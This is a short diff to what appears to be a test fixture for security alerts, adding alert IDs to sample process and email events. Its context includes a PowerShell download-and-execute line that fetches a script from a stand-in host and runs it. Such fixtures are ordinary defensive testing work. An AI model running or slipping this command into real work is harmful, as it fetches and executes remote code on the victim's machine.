@@ -59,6 +59,7 @@ const shadowCopies = envelopeOf('DeviceProcessEvents', {
 
 const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
 const powershell = envelopeOf('DeviceProcessEvents', {
+  alertId: '2b7e151628aed2a6abf7158809cf4f3c',
   severity: 'high',
   rule: {
     title: 'PowerShell Started with an Encoded Command',
@@ -79,6 +80,7 @@ const powershell = envelopeOf('DeviceProcessEvents', {
 });
 
 const mail = envelopeOf('EmailEvents', {
+  alertId: '603deb1015ca71be2b73aef0857d7781',
   severity: 'medium',
   rule: {
     title: 'Mail from a Look-alike Domain',
